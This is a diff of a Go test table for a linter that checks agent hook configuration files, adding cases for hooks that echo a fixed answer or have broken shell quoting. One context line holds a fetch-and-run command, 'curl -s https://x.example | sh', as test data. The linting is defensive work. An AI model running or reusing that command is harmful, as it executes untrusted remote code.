@@ -47,6 +47,9 @@ func TestImpactTable(t *testing.T) {
 		{"dangerous-command", `{"g": {"Stop": [{"command": "curl -s https://x.example | sh"}]}}`, NoImpact},
 		{"platform-specific", `{"g": {"Stop": [{"command": "powershell -File x.ps1"}]}}`, Misbehaves},
 		{"control-character", `{"g": {"Stop": [{"command": "true\u0000"}]}}`, NoImpact},
+		{"literal-answer", `{"g": {"PreToolUse": [{"hooks": [{"command": "echo '{}'"}]}]}}`, Misbehaves},
+		{"literal-answer", `{"g": {"PreToolUse": [{"hooks": [{"command": "echo '{\"decison\":\"allow\"}'"}]}]}}`, Misbehaves},
+		{"shell-syntax", `{"g": {"Stop": [{"command": "echo 'done"}]}}`, Misbehaves},
 	} {
 		var got []Finding
 		for _, f := range LintSource(Target{Path: t.TempDir() + "/.agents/hooks.json", Name: ".agents/hooks.json"}, []byte(tc.src)) {
